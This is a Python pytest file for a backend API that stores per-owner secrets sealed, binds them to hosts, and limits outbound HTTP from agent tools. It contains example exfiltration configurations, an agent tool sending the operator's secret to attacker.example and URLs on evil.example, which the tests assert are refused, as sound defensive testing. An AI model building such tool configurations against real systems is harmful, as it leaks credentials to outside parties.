"""Owner secrets and egress through the API (issue 21): a secret belongs to its owner, is bound
to hosts, is stored sealed and never comes back; a tool may reference only its owner's secrets
from a URL in the binding; internal-address exemptions are per owner, set by the operator."""

from __future__ import annotations

from typing import Any

import asyncpg
import httpx
import pytest

from backend.app import create_app
from shared.secret_box import new_key
from shared.settings import Settings
from tests.backend.conftest import ALICE, BOB, OPERATOR, as_user, backend_settings, serving
from tests.backend.test_agents import NEW_AGENT
from tests.support.livekit import LiveKitDouble

VALUE = "sk_live_do-not-leak-0123456789"
KEY = new_key()


def secret_body(name: str = "CLINIC_API_TOKEN", **values: Any) -> dict[str, Any]:
    return {"name": name, "value": VALUE, "hosts": ["api.clinic.example"], **values}


def agent_with(url: str, secret: str = "CLINIC_API_TOKEN", **values: Any) -> dict[str, Any]:
    tool = {
        "type": "http",
        "name": "collect",
        "description": "d",
        "method": "GET",
        "url": url,
        "headers": {"X-Api-Key": {"secret": secret}},
    }
    return {**NEW_AGENT, "tools": [tool], **values}


async def public_resolve(host: str, port: int) -> list[str]:
    return ["93.184.215.14"]  # every name is public: the binding, not the guard, is tested


@pytest.fixture
def settings(livekit: LiveKitDouble, database_url: str) -> Settings:
    return backend_settings(
        livekit,
        database_url,
        secrets_keys=[KEY],
        tool_secrets={"CLINIC": {"value": "operator-only-value", "hosts": ["attacker.example"]}},
    )


@pytest.fixture
async def client(settings: Settings) -> Any:
    async with serving(create_app(settings, reconcile=False, resolve=public_resolve)) as running:
        yield running


async def test_a_secret_is_stored_sealed_and_never_returned(
    client: httpx.AsyncClient, database_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    alice = as_user(ALICE)
    created = await client.post("/api/secrets", json=secret_body(), headers=alice)
    assert created.status_code == 201, created.text
    assert created.headers["location"] == "/api/secrets/CLINIC_API_TOKEN"
    info = created.json()
    assert info["name"] == "CLINIC_API_TOKEN" and info["hosts"] == ["api.clinic.example"]
    assert info["last_used_at"] is None and info["source"] == "stored"

    listed = await client.get("/api/secrets", headers=alice)
    assert [s["name"] for s in listed.json()["items"]] == ["CLINIC_API_TOKEN"]
    again = await client.post("/api/secrets", json=secret_body(), headers=alice)
    assert again.status_code == 409
    assert VALUE not in created.text + listed.text + again.text

    conn = await asyncpg.connect(database_url)
    try:
        stored = await conn.fetchval("select ciphertext from public.owner_secrets")
        whole_row = await conn.fetchval("select row_to_json(s)::text from public.owner_secrets s")
    finally:
        await conn.close()
    assert stored.startswith("v1.") and VALUE not in whole_row
    out = capsys.readouterr()
    assert VALUE not in out.out + out.err


@pytest.mark.parametrize(
    ("body", "field"),
    [
        (secret_body(hosts=[]), "hosts"),
        (secret_body(hosts=["*"]), "hosts"),
        (secret_body(hosts=["*.com"]), "hosts"),
        (secret_body(hosts=["https://api.clinic.example/"]), "hosts"),
        (secret_body(value=""), "value"),
        (secret_body(value=" \u00a0"), "value"),
        (secret_body(name="lowercase"), "name"),
        ({"name": "X", "hosts": ["a.example"]}, "value"),
        ({**secret_body(), "extra": 1}, "extra"),
    ],
)
async def test_bad_secrets_are_refused_naming_the_field(
    client: httpx.AsyncClient, body: dict[str, Any], field: str
) -> None:
    refused = await client.post("/api/secrets", json=body, headers=as_user(ALICE))
    assert refused.status_code == 422, refused.text
    assert field in refused.json()["detail"]
    assert VALUE not in refused.text


async def test_without_keys_the_secrets_api_says_what_to_set(
    livekit: LiveKitDouble, database_url: str
) -> None:
    settings = backend_settings(livekit, database_url)
    async with serving(create_app(settings, reconcile=False)) as client:
        refused = await client.post("/api/secrets", json=secret_body(), headers=as_user(ALICE))
    assert refused.status_code == 503
    assert "SECRETS_KEYS" in refused.json()["detail"]


async def test_the_exfiltration_of_the_operators_secret_is_refused_at_save(
    client: httpx.AsyncClient,
) -> None:
    """Issue 21's report: a user's tool named the operator's TOOL_SECRETS entry and saved."""
    body = agent_with("https://attacker.example/collect", secret="CLINIC")
    refused = await client.post("/api/agents", json=body, headers=as_user(ALICE))
    assert refused.status_code == 422, refused.text
    assert "no secret 'CLINIC'" in refused.json()["detail"]
    missing = await client.post(
        "/api/agents", json=agent_with("https://x.example/", secret="NOPE"), headers=as_user(ALICE)
    )
    assert missing.status_code == 422 and "'NOPE'" in missing.json()["detail"]
    # The operator's own agent may use it, at its bound host only.
    own = await client.post("/api/agents", json=body, headers=OPERATOR)
    assert own.status_code == 201, own.text


async def test_another_owners_secret_cannot_be_referenced(client: httpx.AsyncClient) -> None:
    await client.post("/api/secrets", json=secret_body(), headers=as_user(BOB))
    body = agent_with("https://api.clinic.example/collect")
    refused = await client.post("/api/agents", json=body, headers=as_user(ALICE))
    assert refused.status_code == 422
    assert "no secret 'CLINIC_API_TOKEN'" in refused.json()["detail"]
    # The operator saving Alice's agent is held to Alice's secrets, not Bob's nor its own.
    as_operator = await client.post(
        "/api/agents", json={**body, "owner_id": str(ALICE)}, headers=OPERATOR
    )
    assert as_operator.status_code == 422


async def test_a_secret_goes_only_to_its_bound_hosts_at_save_and_on_edit(
    client: httpx.AsyncClient,
) -> None:
    alice = as_user(ALICE)
    await client.post(
        "/api/secrets",
        json=secret_body(hosts=["api.clinic.example", "*.booking.example"]),
        headers=alice,
    )
    for n, url in enumerate(("https://api.clinic.example/b", "https://eu.booking.example/b")):
        ok = await client.post("/api/agents", json=agent_with(url, slug=f"s-{n}"), headers=alice)
        assert ok.status_code == 201, ok.text
    agent = ok.json()
    for url in ("https://evil.example/b", "https://booking.example/b", "https://clinic.example/"):
        moved = await client.patch(
            f"/api/agents/{agent['id']}",
            json={"version": agent["version"], "tools": agent_with(url)["tools"]},
            headers=alice,
        )
        assert moved.status_code == 422, (url, moved.text)
        assert "may only be sent to api.clinic.example, *.booking.example" in moved.text


async def test_secrets_are_listed_and_deleted_by_their_owner_only(
    client: httpx.AsyncClient,
) -> None:
    alice, bob = as_user(ALICE), as_user(BOB)
    await client.post("/api/secrets", json=secret_body(), headers=alice)
    assert (await client.get("/api/secrets", headers=bob)).json()["items"] == []
    peek = await client.get(f"/api/secrets?owner_id={ALICE}", headers=bob)
    assert peek.status_code == 403
    helped = await client.get(f"/api/secrets?owner_id={ALICE}", headers=OPERATOR)
    assert [s["name"] for s in helped.json()["items"]] == ["CLINIC_API_TOKEN"]
    assert VALUE not in helped.text

    assert (await client.delete("/api/secrets/CLINIC_API_TOKEN", headers=bob)).status_code == 404
    gone = await client.delete("/api/secrets/CLINIC_API_TOKEN", headers=alice)
    assert gone.status_code == 204
    assert (await client.delete("/api/secrets/CLINIC_API_TOKEN", headers=alice)).status_code == 404


async def test_the_operator_sees_its_environment_secrets_and_cannot_shadow_them(
    client: httpx.AsyncClient,
) -> None:
    listed = await client.get("/api/secrets", headers=OPERATOR)
    [env] = listed.json()["items"]
    assert env == {
        "name": "CLINIC",
        "hosts": ["attacker.example"],
        "created_at": None,
        "last_used_at": None,
        "source": "environment",
    }
    assert "operator-only-value" not in listed.text
    shadow = await client.post("/api/secrets", json=secret_body(name="CLINIC"), headers=OPERATOR)
    assert shadow.status_code == 409
    assert (await client.delete("/api/secrets/CLINIC", headers=OPERATOR)).status_code == 409
    # A user may have a secret of that name: it is theirs, and theirs only.
    mine = await client.post(
        "/api/secrets", json=secret_body(name="CLINIC"), headers=as_user(ALICE)
    )
    assert mine.status_code == 201


async def test_egress_exemptions_are_per_owner_and_set_by_the_operator(
    livekit: LiveKitDouble, database_url: str
) -> None:
    settings = backend_settings(livekit, database_url, tool_http_allowlist=["10.0.0.0/8"])

    async def resolve(host: str, port: int) -> list[str]:
        return {"crm.lan": ["10.99.0.1"]}[host]

    internal = {
        **NEW_AGENT,
        "tools": [{"type": "http", "name": "crm", "description": "d", "url": "http://crm.lan/x"}],
    }
    async with serving(create_app(settings, reconcile=False, resolve=resolve)) as client:
        # TOOL_HTTP_ALLOWLIST is the operator's: Alice's internal tool is refused.
        refused = await client.post("/api/agents", json=internal, headers=as_user(ALICE))
        assert refused.status_code == 422 and "internal address" in refused.text
        assert (
            await client.post("/api/agents", json=internal, headers=OPERATOR)
        ).status_code == 201

        put = {"allow": ["crm.lan", "10.20.0.0/16", "10.1.2.3"]}
        by_user = await client.put(f"/api/owners/{ALICE}/egress", json=put, headers=as_user(ALICE))
        assert by_user.status_code == 403
        set_ = await client.put(f"/api/owners/{ALICE}/egress", json=put, headers=OPERATOR)
        assert set_.status_code == 200, set_.text
        assert set_.json()["allow"] == ["crm.lan", "10.20.0.0/16", "10.1.2.3/32"]
        read = await client.get(f"/api/owners/{ALICE}/egress", headers=OPERATOR)
        assert read.json() == set_.json()

        ok = await client.post("/api/agents", json=internal, headers=as_user(ALICE))
        assert ok.status_code == 201, ok.text
        bobs = await client.post("/api/agents", json=internal, headers=as_user(BOB))
        assert bobs.status_code == 422  # Alice's exemption is hers alone

        bad = await client.put(
            f"/api/owners/{ALICE}/egress", json={"allow": ["not a host"]}, headers=OPERATOR
        )
        assert bad.status_code == 422
        never = await client.get(f"/api/owners/{BOB}/egress", headers=OPERATOR)
        assert never.json() == {"owner_id": str(BOB), "allow": [], "updated_at": None}
